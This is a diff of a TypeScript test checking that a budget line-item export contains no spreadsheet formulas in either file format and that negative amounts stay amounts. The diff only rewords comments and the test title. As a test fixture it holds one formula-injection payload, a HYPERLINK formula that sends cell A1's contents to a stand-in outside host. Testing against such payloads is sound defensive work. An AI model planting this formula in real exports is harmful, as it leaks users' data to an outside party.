@@ -6,7 +6,7 @@ import { useTestApp } from '../../../test/support/test-app.ts';
 
 const app = useTestApp();
 
-/** What spreadsheets take for a formula, each in another column. */
+/** Texts that spreadsheets treat as formulas, each in a different column. */
 const FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"click")';
 
 async function hostileBudget(): Promise<number> {
@@ -27,7 +27,7 @@ async function hostileBudget(): Promise<number> {
   return scenario.id;
 }
 
-test('no text of an export is a formula, in either kind of file; amounts below zero stay amounts', async () => {
+test('no text of an export becomes a formula, in either file format; negative amounts stay amounts', async () => {
   const id = await hostileBudget();
   const file = (format: string) =>
     app.send('ADMIN', 'GET', `/api/line-items/export?scenarioId=${id}&isOperating=false&format=${format}`);
@@ -57,7 +57,7 @@ test('no text of an export is a formula, in either kind of file; amounts below z
       if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t]/);
     }),
   );
-  // The sums below the one line are ours.
+  // The sums below the only line are ours.
   expect(formulas.every((formula) => /^row 3: SUM\([A-Z]+2:[A-Z]+2\)$/.test(formula))).toBe(true);
   expect(formulas.length).toBeGreaterThan(0);
 });
